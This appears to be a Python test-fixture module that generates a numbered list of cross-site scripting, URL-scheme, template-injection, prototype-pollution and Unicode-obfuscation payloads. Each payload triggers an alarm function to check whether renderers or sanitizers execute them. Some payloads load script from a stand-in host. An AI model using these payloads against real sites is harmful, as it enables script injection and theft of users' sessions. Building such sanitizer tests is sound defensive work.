"""Texts that try to become something else: markup, script, links, templates, terminal and writing-direction tricks.

Whoever gets one of them to run calls ``ran(…)``, which every test page defines as an alarm.
"""

from itertools import product
from typing import Final

TAGS: Final = (
    "<img src=x {}>",
    "<svg {}>",
    "<svg><animate attributeName=x dur=1s {}>",
    "<body {}>",
    "<iframe srcdoc=x {}></iframe>",
    "<input autofocus {}>",
    "<select autofocus {}>",
    "<textarea autofocus {}>",
    "<details open {}>x",
    "<video {}><source src=x></video>",
    "<audio src=x {}>",
    "<object data=x {}>",
    "<math {}>",
    "<a tabindex=0 {}>x</a>",
    "<p contenteditable {}>x",
    "<xss style=animation-name:spin {}>",
)
EVENTS: Final = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart", "onclick")

ESCAPES: Final = (
    '"',
    "'",
    "`",
    "'\">",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</template>",
    "*/",
    "\\",
    "&quot;>",
    "%22%3E",
    "\\u0022>",
    "\u2028",
    "＂＞",
)
CORES: Final = (
    "<script>ran({})</script>",
    "<ScRiPt/x>ran({})</sCrIpT>",
    "<script src=//x.example/{}.js></script>",
    "<img/src=x/onerror=ran({})>",
    " onmouseover=ran({}) x=",
    "<style>@import'//x.example/{}'</style>",
    "<base href=//x.example/{}/>",
    "<meta http-equiv=refresh content='0;javascript:ran({})'>",
    "<form action=javascript:ran({})><button>x",
    "<!--><script>ran({})</script-->",
)
ADDRESSES: Final = (
    "javascript:ran({})",
    "JaVaScRiPt:ran({})",
    "java\tscript:ran({})",
    "java&#10;script:ran({})",
    " &#1; javascript:ran({})",
    "javascript://example.com/%0aran({})",
    "data:text/html,<script>ran({})</script>",
    "vbscript:ran({})",
    'http://x.example/"onmouseover=ran({})//',
    "https://x.example/<svg/onload=ran({})>",
    "mailto:x@x.example?subject=<script>ran({})</script>",
    "http://javascript:ran({})@x.example/",
)
WRAPS: Final = ("{}", "[x]({})", "![x]({})", "<{}>", '<a href="{}">x</a>', "[x]: {}", '<iframe src="{}">')
TEMPLATES: Final = (
    "${{ran({})}}",
    "`${{ran({})}}`",
    "{{{{constructor.constructor('ran({})')()}}}}",
    "{{{{ran({})}}}}",
    "#{{ran({})}}",
    "<%= ran({}) %>",
    "[[ran({})]]",
    "{{% raw %}}<script>ran({})</script>",
    "<!--?lit${}$--><script>ran(1)</script>",
    "?lit${}$",
    "{{{{lit-{}}}}}",
    "<?lit${}$>",
    '<dw-portal onclick="ran({})">',
    "<template shadowrootmode=open><script>ran({})</script></template>",
)
WRITING: Final = (
    "\u202e<script>ran({})</script>",
    "\u2066\u202e>tpircs/<)({}nar>tpircs<\u2069",
    "\u200f<img src=x onerror=ran({})>",
    "＜script＞ran({})＜/script＞",
    "﹤script﹥ran({})﹤/script﹥",
    "<\u200bscript>ran({})</script>",
    "<s\u0131ript>ran({})</script>",
    "<\u017fcript>ran({})</\u017fcript>",
    "\u1160\u3164{}",
    "Z\u0351\u036b\u0343a\u0313\u0308l\u0353\u0359go {}",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 <b>{}</b>",
    "\x1b[31m{}\x1b[0m\x07",
    "\ue000{}\ue001<b>",
    "&lt;script&gt;ran({})&lt;/script&gt;",
    "&#x3c;script&#x3e;ran({})&#x3c;/script&#x3e;",
    "%3Cscript%3Eran({})%3C/script%3E",
    "\\x3cscript\\x3eran({})\\x3c/script\\x3e",
    "+ADw-script+AD4-ran({})+ADw-/script+AD4-",
    "__proto__[{}]",
    "constructor.prototype.{}",
)


def payloads() -> list[str]:
    """All of them, each with a number of its own, none with a line break."""
    shapes = [tag.format(f"{event}=ran({{}})") for tag, event in product(TAGS, EVENTS)]
    shapes += [escape.replace("{", "{{") + core for escape, core in product(ESCAPES, CORES)]
    shapes += [wrap.format(address) for wrap, address in product(WRAPS, ADDRESSES)]
    shapes += [*TEMPLATES, *WRITING]
    # the tricks that fit beside every other trick are tried beside all templates too
    shapes += [escape + template for escape, template in product(ESCAPES[:8], TEMPLATES)]
    return [shape.format(number) for number, shape in enumerate(shapes)]


def packed(texts: list[str], most: int, between: str = " ¦ ") -> list[str]:
    """As few texts as possible, each of at most so many characters."""
    packs: list[str] = []
    for text in texts:
        if packs and len(packs[-1]) + len(between) + len(text) <= most:
            packs[-1] += between + text
        else:
            packs.append(text)
    return packs
